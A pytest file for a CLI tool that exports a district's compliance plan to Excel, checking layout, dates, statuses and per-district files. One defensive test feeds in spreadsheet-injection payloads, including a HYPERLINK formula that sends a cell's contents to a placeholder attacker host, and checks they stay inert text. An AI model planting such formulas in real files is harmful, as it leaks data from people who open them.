"""`cimsig export xlsx` read back with openpyxl, as a spreadsheet program would open it."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import pytest

AS_OF = "2024-10-15"


@pytest.fixture
def plan(cli) -> None:
    """Alpha USD in October 2024: Preparation and Step 1 done, two owners, a note."""
    assert cli("init", "--lea", "Alpha USD", "--track", "new").exit_code == 0
    caught_up = cli("done", "--through", "2024-07-10", "--on", "2024-07-10", "--yes",
                    "--as-of", "2024-07-10")  # fmt: skip
    assert caught_up.exit_code == 0, caught_up.output
    assert cli("assign", "step2-theory-of-action", "Maria Lopez").exit_code == 0
    assert cli("assign", "step2-target-population", "Sam Chen").exit_code == 0
    note = "Draft shared with the SELPA.\nBoard study session on Oct 22."
    assert cli("note", "step2-theory-of-action", note).exit_code == 0


def workbook(cli, tmp_path: Path, *args: str) -> openpyxl.Workbook:
    target = tmp_path / "plan.xlsx"
    result = cli("export", "xlsx", "--as-of", AS_OF, "-o", str(target), *args)
    assert result.exit_code == 0, result.output
    assert f"Wrote {target}" in result.stderr
    return openpyxl.load_workbook(target)


def rows_by_id(sheet) -> dict[str, dict[str, object]]:
    header = [c.value for c in sheet[1]]
    rows = {}
    for row in sheet.iter_rows(min_row=2):
        record = {name: cell for name, cell in zip(header, row, strict=True)}
        rows[str(record["Id"].value)] = record
    return rows


def test_the_activities_sheet_reads_and_sorts_as_a_spreadsheet(cli, plan, tmp_path: Path) -> None:
    book = workbook(cli, tmp_path)
    assert book.sheetnames == ["Activities", "Summary"]
    sheet = book["Activities"]
    header = [c.value for c in sheet[1]]
    # Owner and notes right after the title; the id last.
    assert header[:5] == ["Step", "Activity", "Owner", "Notes", "Status"]
    assert header[-1] == "Id"
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == f"A1:N{sheet.max_row}"
    rows = rows_by_id(sheet)
    assert len(rows) == 44
    theory = rows["step2-theory-of-action"]
    assert theory["Owner"].value == "Maria Lopez"
    assert theory["Notes"].value == (
        "Mar 1, 2024: Draft shared with the SELPA.\nBoard study session on Oct 22."
    )
    assert theory["Notes"].alignment.wrap_text
    # Real dates, shown with their weekday; days left as a number.
    assert theory["Due"].value == dt.datetime(2024, 10, 31)
    assert theory["Due"].number_format == "ddd mmm d, yyyy"
    assert theory["Days left"].value == 16
    # The status in words and in colour.
    assert theory["Status"].value == "In progress"
    done = rows["prep-assurance"]
    assert done["Status"].value == "Done"
    assert done["Status"].fill.fgColor.rgb.endswith("C6EFCE")
    assert done["Done on"].value == dt.datetime(2024, 7, 10)
    assert done["Days left"].value is None  # nothing is left of a done activity
    assert done["Days late"].value == 82
    late = rows["step2-submit-stepwell"]
    assert (late["Status"].value, late["Days late"].value) == ("Overdue", 5)
    assert late["Status"].fill.fgColor.rgb.endswith("FFC7CE")
    assert late["Days left"].value is None
    # Widths fit: the step names in full, long titles capped (they wrap).
    widths = {c: sheet.column_dimensions[c].width for c in "ABDF"}
    assert widths["A"] >= len("Preparation") and widths["B"] == 62
    assert widths["F"] >= len("Thu Oct 31, 2024")


def test_a_summary_sheet_by_step(cli, plan, tmp_path: Path) -> None:
    sheet = workbook(cli, tmp_path)["Summary"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0].startswith("Alpha USD: 2024 CIM for Sig Dis")
    assert values[1][0] == "As of Tue Oct 15, 2024"
    assert values[2][0].startswith("17 of 40 done (42%), 2 overdue; next deadline Thu Oct 31")
    assert values[4][:6] == ["Step", "What it is", "Done", "Total", "% done", "Overdue"]
    by_step = {row[0]: row for row in values[5:]}
    assert by_step["Preparation"][2:6] == [5, 5, 1, 0]
    assert by_step["Step 2"][2:6] == [0, 5, 0, 1]
    assert by_step["All steps"][2:4] == [17, 40]
    assert sheet.cell(7, 5).number_format == "0%"


def test_text_that_begins_like_a_formula_stays_text(cli, tmp_path: Path) -> None:
    assert (
        cli("assign", "prep-assurance", '=HYPERLINK("http://evil.example","Click")').exit_code == 0
    )
    assert (
        cli("note", "prep-assurance", '=HYPERLINK("http://evil.example/?"&A1,"Open")').exit_code
        == 0
    )
    added = cli("add", "--step", "step2", "--due", "2024-10-01", "--", "@SUM(A1:A9) board item")
    assert added.exit_code == 0, added.output
    target = tmp_path / "plan.xlsx"
    assert cli("export", "xlsx", "--as-of", AS_OF, "-o", str(target)).exit_code == 0
    book = openpyxl.load_workbook(target)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in hostile} >= {
        '=HYPERLINK("http://evil.example","Click")',
        "@SUM(A1:A9) board item",
    }
    # Marked as Excel marks text typed after an apostrophe: never read as a formula.
    assert all(c.quotePrefix for c in hostile)
    with zipfile.ZipFile(target) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


@pytest.mark.parametrize(
    ("command", "name", "right"),
    [
        ("csv", "report.xlsx", "cimsig export xlsx -o"),
        ("xlsx", "report.csv", "cimsig export csv -o"),
        ("md", "report.html", "cimsig export html -o"),
        ("json", "plan.ics", "cimsig export ics -o"),
    ],
)
def test_a_file_name_of_another_kind_is_refused(
    cli, tmp_path: Path, command: str, name: str, right: str
) -> None:
    target = tmp_path / name
    result = cli("export", command, "-o", str(target))
    assert result.exit_code == 2, result.output
    assert f"{right} {target}" in result.stderr
    assert not target.exists()


def test_every_district_and_an_overview(cli, tmp_path: Path) -> None:
    assert cli("district", "add", "Alpha USD", "--track", "new").exit_code == 0
    assert cli("district", "add", "Beta USD", "--track", "continuing").exit_code == 0
    done = cli("done", "prep-assurance", "--district", "beta", "--as-of", "2024-04-01")
    assert done.exit_code == 0, done.output
    out = tmp_path / "out"
    result = cli("export", "xlsx", "--all-districts", "--folder", str(out), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "alpha-usd-cim-sigdis-2024.xlsx", "beta-usd-cim-sigdis-2024.xlsx", "overview.xlsx",
    ]  # fmt: skip
    overview = openpyxl.load_workbook(out / "overview.xlsx")["Overview"]
    rows = {r[0]: r for r in overview.iter_rows(min_row=4, values_only=True)}
    assert rows["Beta USD"][2:4] == (1, 37)
    assert rows["Beta USD"][10] == "beta-usd-cim-sigdis-2024.xlsx"
    beta = openpyxl.load_workbook(out / "beta-usd-cim-sigdis-2024.xlsx")["Activities"]
    assert rows_by_id(beta)["prep-assurance"]["Status"].value == "Done"


_PROBE = """
import sys
from cimsig.cli import main
try:
    main(sys.argv[1:])
except SystemExit:
    pass
sys.stderr.write("\\nOPENPYXL " + str("openpyxl" in sys.modules) + "\\n")
"""


@pytest.mark.parametrize(
    ("args", "loaded"),
    [
        (("export", "csv", "--as-of", AS_OF), False),
        (("status", "--as-of", AS_OF), False),
        (("export", "xlsx", "--as-of", AS_OF, "-o", "plan.xlsx"), True),
    ],
)
def test_openpyxl_is_imported_only_by_export_xlsx(
    tmp_path: Path, args: tuple[str, ...], loaded: bool
) -> None:
    import os
    import subprocess
    import sys

    env = {**os.environ, "CIMSIG_STATE": str(tmp_path / "state.yaml"), "HOME": str(tmp_path),
           "XDG_CONFIG_HOME": str(tmp_path / ".config"), "APPDATA": str(tmp_path),
           "PYTHONPATH": str(Path(__file__).parents[2])}  # fmt: skip
    result = subprocess.run([sys.executable, "-c", _PROBE, *args], env=env, cwd=tmp_path,
                            capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
    assert result.stderr.strip().splitlines()[-1] == f"OPENPYXL {loaded}", result.stderr
